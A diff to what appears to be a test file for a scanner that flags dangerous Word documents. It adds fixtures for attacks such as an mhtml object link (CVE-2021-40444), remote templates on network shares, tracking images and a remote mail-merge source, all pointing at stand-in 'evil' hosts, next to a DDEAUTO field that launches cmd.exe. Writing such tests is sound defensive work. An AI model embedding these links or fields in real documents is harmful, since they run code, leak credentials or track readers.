@@ -93,6 +93,22 @@ REFUSED = {
         "通知.docx", "自动连接"),
     "a frame from elsewhere": (
         docx(("word/_rels/webSettings.xml.rels", LINK.format("frame", "file://evil/a.htm"))), "通知.docx", "自动连接"),
+    "an object by a way round the browser's rules": (  # CVE-2021-40444
+        docx(("word/_rels/document.xml.rels", LINK.format("oleObject", "mhtml:http://evil.test/a.html!x-usc:b"))),
+        "通知.docx", "自动连接"),
+    "a template on the network, the scheme left out": (
+        docx(("word/_rels/settings.xml.rels", LINK.format("attachedTemplate", "//evil/share/a.dotm"))),
+        "通知.docx", "自动连接"),
+    "a template on the network, spelt by percents": (
+        docx(("word/_rels/settings.xml.rels", LINK.format("attachedTemplate", "file:///%5C%5Cevil/a.dotm"))),
+        "通知.docx", "自动连接"),
+    "a picture from a share, which learns who opens it": (
+        docx(("word/_rels/document.xml.rels", LINK.format("image", "file://evil/a.png"))), "通知.docx", "自动连接"),
+    "a picture from the web, which learns when": (
+        docx(("word/_rels/header1.xml.rels", LINK.format("image", "http://evil.test/a.png"))), "通知.docx", "自动连接"),
+    "addresses from a share": (
+        docx(("word/_rels/settings.xml.rels", LINK.format("mailMergeSource", "\\\\evil\\a.mdb"))),
+        "通知.docx", "自动连接"),
     "a field that starts a program": (docx(body=FIELD.format('DDEAUTO c:\\\\cmd.exe "/k calc"')),
                                       "通知.docx", "自动连接"),
     "such a field in pieces": (docx(body=f"<w:body>{FIELD.format('DD')}{FIELD.format('EAUTO cmd')}</w:body>"),
@@ -143,6 +159,14 @@ HARMLESS = {
     "a template of one's own": (
         docx(("word/_rels/settings.xml.rels", LINK.format("attachedTemplate", "file:///C:\\模板\\公文.dotm"))),
         "通知.docx"),
+    "the same on another system": (
+        docx(("word/_rels/settings.xml.rels", LINK.format("attachedTemplate", "file:///home/a/公文.dotm"))),
+        "通知.docx"),
+    "a picture of one's own": (
+        docx(("word/_rels/document.xml.rels", LINK.format("image", "media/image1.png")
+              .replace('TargetMode="External"', ""))), "通知.docx"),
+    "a picture beside it on the own disk": (
+        docx(("word/_rels/document.xml.rels", LINK.format("image", "file:///D:\\图\\a.png"))), "通知.docx"),
     "a page number": (docx(body=FIELD.format(" PAGE ")), "通知.docx"),
     "wide letters": (docx(body="<w:p><w:t>通知</w:t></w:p>".encode("utf-16")), "通知.docx"),
     "a page behind a pdf: it is only ever sent as a file": (PDF + b"<script>alert(1)</script>", "通知.pdf"),
